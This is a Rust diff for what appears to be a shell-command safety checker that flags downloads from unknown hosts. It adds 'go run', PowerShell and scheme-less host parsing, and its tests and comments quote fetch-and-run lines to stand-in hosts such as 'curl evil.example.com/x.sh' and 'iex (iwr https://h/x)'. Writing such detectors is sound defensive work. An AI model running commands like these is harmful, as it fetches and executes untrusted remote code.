@@ -100,7 +100,8 @@ pub(super) fn unknown_install_host(cmd: &SimpleCommand) -> Option<String> {
                     .filter_map(source_host),
             )
             .collect(),
-        "go" if matches!(sub, "install" | "get") => ops()
+        // `go run HOST/x@v` fetches and runs the module as `go install` does.
+        "go" if matches!(sub, "install" | "get" | "run") => ops()
             .skip(1)
             .filter(|w| w.contains('@') || sub == "get")
             .filter_map(|w| {
@@ -121,7 +122,18 @@ pub(super) fn unknown_install_host(cmd: &SimpleCommand) -> Option<String> {
 
 /// Download clients, whose URL operands name where the code they fetch comes from.
 const DOWNLOADERS: &[&str] = &[
-    "curl", "wget", "fetch", "http", "https", "xh", "aria2c", "wget2", "curlie",
+    "curl",
+    "wget",
+    "fetch",
+    "http",
+    "https",
+    "xh",
+    "aria2c",
+    "wget2",
+    "curlie",
+    // PowerShell's `iwr URL`/`DownloadString(URL)`: the URL inside its code word.
+    "pwsh",
+    "powershell",
 ];
 
 /// The unknown host a download of the line fetches from, if any: for a line that runs what
@@ -129,10 +141,128 @@ const DOWNLOADERS: &[&str] = &[
 pub(super) fn unknown_download_host(cmds: &[SimpleCommand]) -> Option<String> {
     cmds.iter()
         .filter(|c| DOWNLOADERS.contains(&c.name()))
-        .flat_map(|c| c.argv.iter().skip(1))
-        .filter(|w| !w.starts_with('-') && w.contains("://"))
-        .filter_map(|w| host_of(w))
+        .flat_map(|c| download_sources(&c.argv))
         .find(|h| !known(h))
+}
+
+/// Short options of the download clients that take a value (`-o FILE`, `-H HEADER`), also
+/// last in a cluster (`-fsSLo FILE`): the word after them is no URL.
+const VALUE_SHORT: &str = "oHdXuAeTFKwmxbcrCEPUaiQtY";
+
+/// Long options of the download clients that take their value as the next word.
+const VALUE_LONG: &[&str] = &[
+    "--output",
+    "--header",
+    "--data",
+    "--data-binary",
+    "--data-raw",
+    "--data-urlencode",
+    "--request",
+    "--user",
+    "--user-agent",
+    "--referer",
+    "--upload-file",
+    "--form",
+    "--config",
+    "--write-out",
+    "--max-time",
+    "--proxy",
+    "--cookie",
+    "--cookie-jar",
+    "--range",
+    "--continue-at",
+    "--cert",
+    "--key",
+    "--cacert",
+    "--resolve",
+    "--connect-to",
+    "--connect-timeout",
+    "--retry",
+    "--output-document",
+    "--output-file",
+    "--directory-prefix",
+    "--post-data",
+    "--post-file",
+    "--body-data",
+    "--body-file",
+    "--method",
+    "--input-file",
+    "--tries",
+    "--timeout",
+    "--wait",
+    "--limit-rate",
+    "--dns-servers",
+    "--interface",
+];
+
+/// The hosts the URL operands of a download client fetch from: URLs with a scheme, and bare
+/// addresses the client reads as `http://` (`curl evil.example.com/x.sh`, `wget 203.0.113.5/i`):
+/// an IPv4 address, or a name of three labels or more, or a name followed by a path. Option
+/// values (`-o install.sh`) and local paths are none.
+fn download_sources(argv: &[String]) -> Vec<String> {
+    let mut hosts = Vec::new();
+    if argv
+        .first()
+        .is_some_and(|p| matches!(p.rsplit('/').next(), Some("pwsh" | "powershell")))
+    {
+        // PowerShell's code word: every URL it spells (`iex (iwr https://h/x)`).
+        for w in argv.iter().skip(1) {
+            for (at, _) in w.match_indices("://") {
+                let start = w[..at]
+                    .rfind(|c: char| !c.is_ascii_alphabetic())
+                    .map_or(0, |i| i + 1);
+                hosts.extend(host_of(&w[start..]));
+            }
+        }
+        return hosts;
+    }
+    let mut skip = false;
+    let mut options_end = false;
+    for w in argv.iter().skip(1) {
+        if skip {
+            skip = false;
+            continue;
+        }
+        if !options_end && w == "--" {
+            options_end = true;
+            continue;
+        }
+        if !options_end && w.starts_with("--") {
+            skip = !w.contains('=') && VALUE_LONG.contains(&w.as_str());
+            continue;
+        }
+        if !options_end && w.starts_with('-') && w.len() > 1 {
+            skip = w.chars().last().is_some_and(|c| VALUE_SHORT.contains(c));
+            continue;
+        }
+        if w.contains("://") {
+            hosts.extend(host_of(w));
+        } else if let Some(h) = bare_host(w) {
+            hosts.push(h);
+        }
+    }
+    hosts
+}
+
+/// The host of a URL written without a scheme, when the word can be nothing else.
+fn bare_host(word: &str) -> Option<String> {
+    if word.starts_with(['.', '/', '~', '$', '@', '-']) || word.contains(['=', ' ']) {
+        return None;
+    }
+    let host = host_of(word)?;
+    if host.parse::<std::net::Ipv4Addr>().is_ok() {
+        return Some(host);
+    }
+    let labels: Vec<&str> = host.split('.').collect();
+    let tld = labels.last()?;
+    let named = labels.len() >= 2
+        && labels
+            .iter()
+            .all(|l| !l.is_empty() && l.chars().all(|c| c.is_ascii_alphanumeric() || c == '-'))
+        && tld.len() >= 2
+        && tld.chars().all(|c| c.is_ascii_alphabetic());
+    let with_path = word.contains(['/', ':']);
+    (named && (labels.len() >= 3 || with_path)).then_some(host)
 }
 
 #[cfg(test)]
@@ -175,6 +305,10 @@ mod tests {
                 Some("tools.example.com"),
             ),
             (
+                "go run tools.example.com/x/bootstrap@latest",
+                Some("tools.example.com"),
+            ),
+            (
                 "deno run -A https://mods.example.net/i.ts",
                 Some("mods.example.net"),
             ),
@@ -192,8 +326,47 @@ mod tests {
             ("pip install requests", None),
             ("npm install left-pad", None),
             ("go install ./cmd/tool", None),
+            ("go run ./cmd/server", None),
+            ("go run golang.org/x/tools/cmd/stringer@latest", None),
         ] {
             assert_eq!(first(line).as_deref(), host, "{line}");
+        }
+    }
+
+    #[test]
+    fn download_hosts_with_and_without_a_scheme() {
+        let hosts = |line: &str| {
+            let parsed = crate::parse::parse(line);
+            parsed
+                .commands
+                .iter()
+                .filter(|c| DOWNLOADERS.contains(&c.name()))
+                .flat_map(|c| download_sources(&c.argv))
+                .collect::<Vec<_>>()
+        };
+        for (line, want) in [
+            (
+                "curl -fsSL https://dl.example.net/i.sh",
+                vec!["dl.example.net"],
+            ),
+            ("curl evil.example.com/x.sh", vec!["evil.example.com"]),
+            ("curl e.example.com", vec!["e.example.com"]),
+            ("wget -qO- 203.0.113.5/x", vec!["203.0.113.5"]),
+            ("curl -s example.com:8080/i", vec!["example.com"]),
+            // Option values, local paths and plain names are no hosts.
+            (
+                "curl -o install.sh https://sh.rustup.rs",
+                vec!["sh.rustup.rs"],
+            ),
+            (
+                "curl -fsSLo out.tar.gz https://x.example.org/a",
+                vec!["x.example.org"],
+            ),
+            ("curl -H 'Host: a.b.example' --output f.txt ./x", vec![]),
+            ("curl example.com", vec![]),
+            ("curl -o setup.py.bak ~/x.y.z", vec![]),
+        ] {
+            assert_eq!(hosts(line), want, "{line}");
         }
     }
 }
